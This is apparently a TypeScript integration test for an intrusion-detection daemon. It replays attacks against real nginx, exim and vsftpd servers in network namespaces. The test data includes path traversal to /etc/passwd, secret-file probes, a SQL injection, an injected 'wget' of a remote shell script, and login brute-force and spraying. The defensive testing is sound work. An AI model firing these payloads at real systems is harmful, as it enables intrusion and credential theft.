/** Real nginx, exim and vsftpd, attacked from a namespace; the daemon reads their own logs and enforces. */
import assert from 'node:assert/strict';
import { chmod, rm } from 'node:fs/promises';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { Daemon, stateDir } from '../support/daemon.ts';
import { freePort } from '../support/free-port.ts';
import { Namespace, notRoot } from '../support/namespaces.ts';
import { lacks, startExim, startNginx, startVsftpd } from '../support/real-servers.ts';
import { blocked, blocks, finding } from '../support/watching.ts';

const EDGE = '192.0.2.1';
const NEIGHBOUR = '192.0.2.100';
/** Of the attacker, one for each kind of attack. */
const address = (i: number): string => `192.0.2.${10 + i}`;

function siteOf(t: TestContext) {
  const edge = new Namespace('edge');
  const attacker = new Namespace('attack');
  const addresses = Array.from({ length: 12 }, (_, i) => `${address(i)}/24`);
  attacker.link(edge, [`${NEIGHBOUR}/24`, ...addresses], [`${EDGE}/24`]);
  t.after(() => {
    attacker[Symbol.dispose]();
    edge[Symbol.dispose]();
  });
  /** One curl, request after request. It fails where it is cut. */
  const curl = (from: string, ...args: readonly string[]): Promise<string> => {
    const always = ['-sS', '--max-time', '5', '--interface', from, '--path-as-is', '-o', '/dev/null'];
    return attacker.run('curl', ...always, ...args).catch((failed: unknown) => String(failed));
  };
  return { edge, attacker, curl };
}

async function enforcing(t: TestContext, edge: Namespace, files: (state: string) => Promise<string>) {
  const daemon = new Daemon(await stateDir());
  t.after(() => daemon[Symbol.asyncDispose]());
  await daemon.configure(`
webui: { listen: '127.0.0.1:${await freePort()}' }
firewall: { enabled: true, netns: ${edge.name} }
watchers: { files: [${await files(daemon.state)}] }
`);
  await daemon.start('--enforce');
  return daemon;
}

const numbered = (count: number, path: (i: number) => string): readonly string[] =>
  Array.from({ length: count }, (_, i) => `http://${EDGE}${path(i)}`);

/** Check, what curl is told, and whether it may block. */
const WEB_ATTACKS: readonly (readonly [check: string, isBlocked: boolean, args: readonly string[]])[] = [
  ['http_scanner_profile', true, numbered(30, (i) => `/app-${i}/index.html`)],
  ['http_probe', true, numbered(3, (i) => ['/.env', '/.git/config', '/wp-config.php.bak'][i] ?? '')],
  ['path_traversal', true, numbered(3, (i) => `/cgi-bin/../../../../etc/passwd?${i}`)],
  ['sqli_probe', true, numbered(3, (i) => `/?id=${i}%27%20UNION%20SELECT%20user,pass%20FROM%20users--`)],
  ['shell_probe', true, numbered(3, (i) => `/?host=${i};wget%20http://203.0.113.9/x.sh`)],
  ['wp_login_bruteforce', true, ['-d', 'log=admin&pwd=x', ...numbered(20, () => '/wp-login.php')]],
  ['xmlrpc_abuse', true, ['-d', '<methodCall/>', ...numbered(20, () => '/xmlrpc.php')]],
  ['http_bad_bot', false, ['-A', 'sqlmap/1.7.2#stable (https://sqlmap.org)', ...numbered(1, () => '/')]],
  [
    'http_claimed_bot_unverified',
    false,
    ['-A', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', ...numbered(1, () => '/')],
  ],
];

test('nginx: every kind of attack on the web is found in its access log, those that may are blocked', {
  skip: notRoot || lacks('/usr/sbin/nginx'),
}, async (t) => {
  const { edge, curl } = siteOf(t);
  const daemon = await enforcing(t, edge, async (state) => {
    const { access, errors } = await startNginx(edge, join(state, 'nginx'));
    return `{ path: ${access}, parser: nginx-access }, { path: ${errors}, parser: nginx-error }`;
  });
  await curl(NEIGHBOUR, ...numbered(10, (i) => `/missing-${i}.png`), `http://${EDGE}/`);
  await Promise.all(WEB_ATTACKS.map(([, , args], i) => curl(address(i), ...args)));
  const expected: string[] = [];
  for (const [i, [check, isBlocked]] of WEB_ATTACKS.entries()) {
    await finding(daemon, check, address(i));
    if (isBlocked) expected.push(address(i));
  }
  await blocks(daemon, ...expected);
  assert.deepEqual(await blocked(daemon), expected.sort());
  assert.match(await curl(address(0), '--max-time', '1', `http://${EDGE}/`), /timed out/);
  assert.equal(await curl(NEIGHBOUR, `http://${EDGE}/`), '', 'who only missed some pictures is served');
});

/** One exim, which may be the only mail server of its machine, is not among the packages that the tests install. */
test('exim: ten wrong passwords of one account, and eight accounts, over real SMTP', {
  skip: notRoot || lacks('/usr/sbin/exim4'),
}, async (t) => {
  const { edge, curl } = siteOf(t);
  const directory = await stateDir();
  t.after(() => rm(directory, { recursive: true }));
  // Exim works under its own account.
  await chmod(directory, 0o755);
  const mainlog = await startExim(edge, join(directory, 'exim'));
  const daemon = await enforcing(t, edge, async () => `{ path: ${mainlog}, parser: exim }`);
  const message = ['--mail-from', 'a@example.org', '--mail-rcpt', 'b@example.net', '-T', '/etc/hostname'];
  const login = (from: string, user: string): Promise<string> =>
    curl(from, `smtp://${EDGE}`, '--login-options', 'AUTH=PLAIN', '-u', `${user}:wrong`, ...message);
  await Promise.all([
    ...Array.from({ length: 10 }, () => login(address(0), 'bob')),
    ...Array.from({ length: 8 }, (_, i) => login(address(1), `user${i}`)),
  ]);
  await finding(daemon, 'smtp_bruteforce', address(0));
  await finding(daemon, 'mail_account_spray', address(1));
  await blocks(daemon, address(0), address(1));
  assert.deepEqual(await blocked(daemon), [address(0), address(1)]);
});

test('vsftpd: ten wrong passwords over real FTP', {
  skip: notRoot || lacks('/usr/sbin/vsftpd'),
}, async (t) => {
  const { edge, curl } = siteOf(t);
  const daemon = await enforcing(t, edge, async (state) => {
    const log = await startVsftpd(edge, join(state, 'vsftpd'));
    return `{ path: ${log}, parser: vsftpd }`;
  });
  await Promise.all(Array.from({ length: 10 }, () => curl(address(0), `ftp://${EDGE}/`, '-u', 'nobody-here:wrong')));
  await finding(daemon, 'ftp_bruteforce', address(0));
  await blocks(daemon, address(0));
  assert.deepEqual(await blocked(daemon), [address(0)]);
});
